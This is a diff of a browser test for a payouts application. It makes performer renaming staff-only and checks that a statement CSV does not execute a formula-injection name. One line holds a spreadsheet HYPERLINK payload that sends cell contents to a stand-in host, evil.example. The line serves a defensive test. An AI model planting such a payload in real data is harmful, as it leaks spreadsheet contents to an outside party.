@@ -72,9 +72,12 @@ describeWithChromium('payouts in the browser', () => {
     await admin.getByTestId('admin-carry-row').filter({ hasText: 'Giulia: 6,87 € · Sotto il minimo' }).waitFor();
     await adminContext.close();
 
-    // she names herself with a formula, which her statement's CSV must not run
+    // her verified name is now a formula (only staff can rename her), which her statement's CSV must not run
     const formulaName = '=HYPERLINK("http://evil.example/?"&A1;"Giulia")';
-    expect((await giulia.send('PATCH', `/api/performers/${giuliaId}`, { name: formulaName })).status).toBe(200);
+    expect((await giulia.send('PATCH', `/api/performers/${giuliaId}`, { name: formulaName })).status).toBe(403);
+    const staff = client(app.url);
+    expect((await staff.post('/api/admin/verify', { username: 'admin', password: ADMIN_PASSWORD })).status).toBe(200);
+    expect((await staff.send('PATCH', `/api/performers/${giuliaId}`, { name: formulaName })).status).toBe(200);
     await app.settled();
 
     // 3. Giulia's dashboard: her statement, carried over below the minimum
